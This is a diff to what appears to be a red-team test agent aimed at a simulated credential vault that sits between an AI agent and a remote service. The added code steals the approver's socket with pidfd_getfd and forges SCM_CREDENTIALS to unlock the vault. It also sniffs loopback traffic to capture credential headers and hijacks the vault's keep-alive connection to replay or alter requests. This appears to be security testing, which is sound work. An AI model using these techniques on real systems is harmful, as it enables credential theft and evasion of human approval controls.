@@ -12,6 +12,15 @@ processes of its user, the right to name any pid in SCM_CREDENTIALS):
                    already said hello), takes a copy of it (pidfd_getfd), and on it allows its own
                    pending requests, naming that process in SCM_CREDENTIALS as the writer
   steal_plain      the same without naming anyone: the kernel names the agent as the writer
+  steal_unlock     on the stolen connection (the runner named as writer) unlocks a locked vault
+  ride_read        listens on loopback (AF_PACKET) while the vault does its steps and keeps the
+                   last GET the vault sent the remote (its headers: the credential and every
+                   other header); after its steps takes a copy of the vault's own idle
+                   keep-alive connection to the remote (pidfd_getfd) and sends that GET again on
+                   it, with a correlation id of its own
+  ride_create      the same with the first POST it saw (a second effect, no idempotency key)
+  ride_setup       as ride_create, its correlation id starting "setup-" (the runner's own prefix)
+  ride_replay      as ride_read, the GET sent again byte for byte (the vault's correlation id)
 """
 
 from __future__ import annotations
@@ -42,6 +51,10 @@ def left() -> float:
 
 def log(*a: object) -> None:
     print("log:", *a, file=sys.stderr, flush=True)
+    trace = os.environ.get("RT12U_TRACE")  # the tester's own trace file (unjailed runs)
+    if trace:
+        with open(trace, "a") as f:
+            print(MODE, *a, file=f)
 
 
 class Conn:
@@ -145,6 +158,107 @@ def allow_on_stolen(request_id: str) -> None:
     log("decided", request_id, "on process", pid, "'s connection")
 
 
+def unlock_on_stolen() -> None:
+    found = find_approver_conn()
+    if found is None:
+        log("no approver connection found")
+        return
+    s, pid = found
+    line = json.dumps({"jsonrpc": "2.0", "id": "rt12u-unlock", "method": "unlock", "params": {}}).encode() + b"\n"
+    s.sendmsg([line], [(socket.SOL_SOCKET, socket.SCM_CREDENTIALS, struct.pack("3i", pid, 0, 0))])
+    log("unlocked on process", pid, "'s connection")
+
+
+SEEN_REQS: list = []  # (client port, server port, request bytes) the vault sent the remote
+
+
+def sniff() -> None:
+    """Every TCP payload on loopback that looks like an HTTP request with the vault's mark."""
+    import threading
+
+    def loop() -> None:
+        try:
+            raw = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0003))
+            raw.bind(("lo", 0))
+        except OSError as e:
+            log("no sniffing", e)
+            return
+        raw.settimeout(0.2)
+        while left() > 0:
+            try:
+                frame = raw.recv(65536)
+            except socket.timeout:
+                continue
+            ip = frame[14:]
+            if len(ip) < 20 or ip[0] >> 4 != 4 or ip[9] != 6:
+                continue
+            tcp = ip[(ip[0] & 15) * 4:]
+            sport, dport = struct.unpack("!HH", tcp[:4])
+            payload = tcp[(tcp[12] >> 4) * 4:]
+            if b"x-vaultsim-via" in payload.lower() and payload[:4] in (b"GET ", b"POST", b"PUT ", b"DELE", b"PATC"):
+                SEEN_REQS.append((sport, dport, payload))
+    threading.Thread(target=loop, daemon=True).start()
+    time.sleep(0.1)
+
+
+def tcp_inode(lport: int, rport: int) -> int | None:
+    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
+        for line in open(table).read().splitlines()[1:]:
+            f = line.split()
+            if f[1].endswith(f":{lport:04X}") and f[2].endswith(f":{rport:04X}"):
+                return int(f[9])
+    return None
+
+
+def ride(kind: bytes) -> None:
+    reqs = [r for r in SEEN_REQS if r[2].startswith(kind)]
+    log("seen", len(SEEN_REQS), "requests,", len(reqs), kind)
+    if not reqs:
+        return
+    _, dport, req = reqs[0] if kind == b"POST" else reqs[-1]
+    head, _, body = req.partition(b"\r\n\r\n")
+    if MODE == "ride_replay":  # the vault's own request again, byte for byte
+        lines = head.split(b"\r\n")
+    else:
+        lines = [ln for ln in head.split(b"\r\n")
+                 if not ln.lower().startswith((b"x-correlation-id:", b"idempotency-key:"))]
+        lines.append(b"X-Correlation-Id: " + (b"setup-" if MODE == "ride_setup" else b"c-rt12u-")
+                     + os.urandom(6).hex().encode())
+    mine = b"\r\n".join(lines) + b"\r\n\r\n" + body
+    # the vault's idle keep-alive connection to that port: any socket of another process whose peer it is
+    for name in os.listdir("/proc"):
+        if not name.isdigit() or int(name) == os.getpid():
+            continue
+        try:
+            fds = os.listdir(f"/proc/{name}/fd")
+        except OSError:
+            continue
+        for fd in fds:
+            try:
+                link = os.readlink(f"/proc/{name}/fd/{fd}")
+            except OSError:
+                continue
+            if not link.startswith("socket:["):
+                continue
+            got = steal_fd(int(name), int(fd))
+            if got < 0:
+                continue
+            s = socket.socket(fileno=got)
+            try:
+                ok = s.family == socket.AF_INET and s.getpeername()[1] == dport and name != "1"
+                # the client end (its peer is the remote's port), held by the vault
+                if ok:
+                    s.sendall(mine)
+                    log("sent on process", name, "'s connection", s.getsockname(), mine.split(b"\r\n")[0])
+                    return
+            except OSError:
+                pass
+            finally:
+                s.detach()
+                os.close(got)
+    log("no connection of the vault's to ride")
+
+
 # ---- the task --------------------------------------------------------------------------------
 
 
@@ -173,6 +287,10 @@ def reconcile(conn: Conn, sid: str, res: dict, op: str) -> dict:
 
 
 def main() -> int:
+    if MODE == "steal_unlock":
+        unlock_on_stolen()
+    if MODE.startswith("ride"):
+        sniff()
     conn = Conn()
     sid = conn.rpc("session.open", {"agent": TASK["agent"], "run_id": RUN_ID})["result"]["session_id"]
     data: dict = {}
@@ -203,6 +321,12 @@ def main() -> int:
         else:
             why = f"not done: {step['call']} {res.get('category')}"
         break
+    if MODE == "ride_read":
+        ride(b"GET ")
+    if MODE in ("ride_create", "ride_setup"):
+        ride(b"POST")
+    if MODE == "ride_replay":
+        ride(b"GET ")
     print("done: every step succeeded" if ok else why, flush=True)
     return 0
 
